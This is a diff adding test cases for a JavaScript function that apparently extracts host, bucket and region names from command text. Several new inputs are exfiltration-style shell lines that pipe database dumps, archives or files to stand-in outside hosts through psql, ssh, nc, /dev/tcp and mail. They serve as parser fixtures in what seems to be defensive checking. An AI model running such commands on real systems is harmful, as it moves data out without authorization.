@@ -29,6 +29,15 @@ test.each([
   ["ssh me@ec2-3-4-5-6.us-east-1.compute.amazonaws.com", "host ec2-3-4-5-6.us-east-1.compute.amazonaws.com"],
   ["[sqs.us-east-1.amazonaws.com]", "host sqs.us-east-1.amazonaws.com"],
   ["US-EAST-1", "region US-EAST-1"],
+  ["pg_dump app | psql -h db.vendor.example app", "host db.vendor.example"],
+  ["tar cz /srv | ssh me@db.vendor.example 'cat > d.tgz'", "host db.vendor.example"],
+  ["cat /srv | nc 203.0.113.9 514", "host 203.0.113.9"],
+  ["cat /srv > /dev/tcp/db.vendor.example/9000", "host db.vendor.example"],
+  ["mount -t nfs nas.vendor.example:/export /mnt", "host nas.vendor.example"],
+  ["mount -t cifs //nas.vendor.example/in /mnt", "host nas.vendor.example"],
+  ["sqlplus a/b@//db.vendor.example:1521/app", "host db.vendor.example"],
+  ["mail -s dump -A /data.csv boss@vendor.example", "host vendor.example"],
+  ["user:pw@tcp(203.0.113.9:3306)/app", "host 203.0.113.9:3306"],
   ["aws s3api put-object --bucket people --key k", "bucket people"],
 ])("%s says %s", (text, word) => {
   expect(words(text)).toContain(word);
@@ -63,6 +72,15 @@ test("the host of a URL stands once, and one in the ARN of a provider of identit
   expect(words("arn:aws:iam::111122223333:oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/X", "")).toEqual([
     "arn arn:aws:iam::111122223333:oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/X",
   ]);
+});
+
+test("files and releases are no hosts", () => {
+  expect(words("psql -f dump.sql -d app && ssh -i key.pem", "")).toEqual([]);
+  expect(words("echo see db.vendor.example", "").filter((word) => word.startsWith("host"))).toEqual([]);
+  expect(words("1.2.3.4", "APP_VERSION")).toEqual([]);
+  expect(words("1.2.3.4", "CRM")).toEqual(["host 1.2.3.4"]);
+  expect(words("main.app", "HANDLER")).toEqual(["name main.app"]);
+  expect(words("cache.partner.ai", "CACHE")).toContain("host cache.partner.ai");
 });
 
 test("a text of which nothing names a place is passed over", () => {
